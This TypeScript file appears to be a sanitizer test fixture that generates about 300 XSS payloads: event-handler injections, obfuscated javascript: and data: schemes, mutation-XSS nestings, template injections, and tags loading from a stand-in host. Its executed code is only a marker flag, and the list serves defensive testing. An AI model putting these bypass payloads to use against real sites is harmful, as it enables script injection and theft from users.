/** What a payload would do if it ran: a page that has this is broken. */
const RUN = 'window.__ran=1'
const ELSEWHERE = 'https://elsewhere.example'

const EVENTS = [
  'onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerover onpointerrawupdate ontoggle onbegin onend onrepeat',
  'onanimationstart onanimationend ontransitionend onwheel onscroll onscrollend onpaste oncopy oninput onchange onsubmit onreset oninvalid',
  'onhashchange onpageshow onpopstate onmessage onstart onfinish onplay oncanplay onloadstart oncontentvisibilityautostatechange',
].flatMap((line) => line.split(' '))

const CARRIERS = [
  (event: string) => `<img src=x ${event}=${RUN}>`,
  (event: string) => `<svg ${event}=${RUN}>`,
  (event: string) => `<details open ${event}="${RUN}"><summary>x</summary></details>`,
  (event: string) => `"><input autofocus ${event}='${RUN}' x="`,
]

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript&colon;',
  'java&#115;cript:',
  'java&#x73;cript:',
  'javascript&#0000058',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg',
  'data:image/svg+xml,<svg onload=',
  'view-source:javascript:',
  'feed:javascript:',
  'blob:',
  'about:blank#',
  'file:///etc/passwd#',
  `//elsewhere.example/`,
]

const LINKS = [
  (address: string) => `[link](${address}${RUN})`,
  (address: string) => `[link](<${address}${RUN}>)`,
  (address: string) => `![picture](${address}${RUN})`,
  (address: string) => `<a href="${address}${RUN}">link</a>`,
]

const REMOTE = [
  'img src',
  'img srcset',
  'video poster',
  'audio src',
  'source src',
  'input type=image src',
  'link rel=stylesheet href',
  'link rel=preload as=image href',
  'iframe src',
  'embed src',
  'object data',
  'base href',
  'body background',
  'table background',
  'svg><image href',
  'svg><use href',
  'math><mtext href',
  'script src',
  'meta http-equiv=refresh content="0;url',
  'form action',
]

const ODD = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script\u0000>${RUN}</script>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `</script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<style>@import '${ELSEWHERE}/x.css';*{background:url(${ELSEWHERE}/x)}</style>`,
  `<div style="background:url(${ELSEWHERE}/x);animation:x" onanimationend=${RUN}>`,
  `<form><button formaction=javascript:${RUN}>x</button></form>`,
  `<form id=document><input name=cookie></form>`,
  `<a id=__proto__ name=constructor href=javascript:${RUN}>x</a>`,
  `<x contenteditable autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<xss id=x tabindex=1 onactivate=${RUN}></xss>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `[[<img src=x onerror=${RUN}>]]`,
  `[[wik_00000000000000000000000000" onmouseover="${RUN}]]`,
  `@[<img src=x onerror=${RUN}>](usr_00000000000000000000000000)`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `\`\`\`<img src=x onerror=${RUN}>\nx\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `~~<img src=x onerror=${RUN}>~~`,
  `<https://elsewhere.example/" onmouseover="${RUN}>`,
  `![](x" onerror="${RUN})`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\u202e<img src=x onerror=${RUN}>`,
  `\u2028<script>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `=HYPERLINK("${ELSEWHERE}","x")`,
]

/** Texts that would run, or ask another host, where a page took them for markup: about 300, each once. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...EVENTS.flatMap((event) => CARRIERS.map((carry) => carry(event))),
    ...SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme))),
    ...REMOTE.map((element) => `<${element}=${ELSEWHERE}/x>`),
    ...ODD,
  ]),
]
